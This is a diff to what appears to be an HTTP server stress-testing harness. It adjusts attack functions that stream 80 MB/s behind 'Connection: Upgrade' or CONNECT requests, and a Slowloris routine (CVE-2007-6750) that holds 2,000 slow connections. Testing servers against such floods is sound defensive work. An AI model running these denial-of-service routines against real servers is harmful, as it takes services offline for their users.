@@ -25,7 +25,7 @@ def stream_bytes(run, first, piece, rate):
         run.ended(plain)
 
 
-@attack("80 MB/s behind Upgrade")
+@attack("80 MB/s behind Upgrade", seconds=2)
 def upgrade(run):
     """NIO's decoder stops parsing at `Connection: Upgrade` and keeps all that follows."""
     stream_bytes(run, HEAD + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n", bytes(32_768), 80_000_000)
@@ -38,7 +38,7 @@ def upgrade_h2c(run):
     stream_bytes(run, HEAD + head, bytes(32_768), 80_000_000)
 
 
-@attack("80 MB/s behind CONNECT")
+@attack("80 MB/s behind CONNECT", seconds=2)
 def connect(run):
     """A tunnel that the server does not open, filled nevertheless."""
     stream_bytes(run, b"CONNECT a:1 HTTP/1.1\r\nHost: a:1\r\n\r\n", bytes(32_768), 80_000_000)
@@ -133,14 +133,14 @@ def slow_readers_http1(run):
 @attack("2,000 connections, 500/s, a byte a second each", seconds=3)
 def slowloris(run):
     """CVE-2007-6750: heads that come byte by byte."""
-    plains, due, number, slow = [], 1.0, 0, HEAD + b"x: " + b"y" * 1_000
+    plains, due, slow = [], 1.0, HEAD + b"x: " + b"y" * 1_000
     for count in run.ticks(500):
         plains += [Plain(run.target, wait=2) for _ in range(min(count, 2_000 - len(plains)))]
         if run.passed > due:
-            due, number = due + 1, number + 1
+            due += 1
             for plain in plains:
                 plain.take()
-                run.sent += plain.send(slow[number - 1 : number])
+                run.sent += plain.send(slow[plain.sent_count : plain.sent_count + 1])
     run.ended(*plains)
 
 
